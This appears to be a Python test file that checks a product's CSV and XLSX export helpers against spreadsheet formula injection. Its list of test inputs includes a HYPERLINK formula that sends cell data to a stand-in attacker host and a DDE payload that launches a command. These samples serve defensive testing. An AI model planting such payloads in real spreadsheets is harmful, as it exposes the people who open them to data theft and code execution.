"""No CSV or XLSX cell the product writes can run as a formula (issue 13, finding 4)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from fieldvisit.apps.common.spreadsheets import (
    csv_text,
    spreadsheet_cell,
    spreadsheet_text,
    xlsx_bytes,
)

SRC = Path(__file__).resolve().parents[3] / "src" / "fieldvisit"
ATTACKS = [
    '=HYPERLINK("http://evil.example/x?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["张三", "M1", "1+1", " =1", "", "a=b", "'quoted"])
def test_other_text_is_unchanged(text):
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize("value", [-5, -1.5, 0, None])
def test_numbers_stay_numbers(value):
    assert spreadsheet_cell(value) == value


def test_csv_text_escapes_every_cell_and_keeps_the_rows():
    text = csv_text([["header", "=x"], *[[a, 1] for a in ATTACKS]])

    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0] == ["header", "'=x"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]


def test_a_workbook_is_saved_with_no_formula_whoever_wrote_its_cells():
    book = Workbook()
    sheet = book.active
    sheet.append(ATTACKS)
    sheet["A3"] = "=1+1"
    sheet.append([-3, 2.5, "plain"])

    saved = load_workbook(io.BytesIO(xlsx_bytes(book)))

    cells = [c for row in saved.active.iter_rows() for c in row if c.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    assert saved.active["A1"].value == "'" + ATTACKS[0]
    assert saved.active["A3"].value == "'=1+1"
    assert [c.value for c in saved.active[4]][:3] == [-3, 2.5, "plain"]


def test_no_other_module_writes_csv_or_saves_a_workbook():
    """Every CSV and XLSX export goes through :mod:`fieldvisit.apps.common.spreadsheets`. (The
    bulk loaders' CSV buffers feed PostgreSQL's COPY, not a person; the demo generator writes the
    core lending system's files, which are this product's input.)"""
    csv_writer = re.compile(r"csv\.(writer|DictWriter)\(|write_excel\(")
    found = []
    for path in SRC.rglob("*.py"):
        name = str(path.relative_to(SRC))
        text = path.read_text()
        saves_workbook = "openpyxl" in text and ".save(" in text
        if not name.startswith("demo/") and (csv_writer.search(text) or saves_workbook):
            found.append(name)
    assert sorted(found) == ["apps/common/spreadsheets.py"]
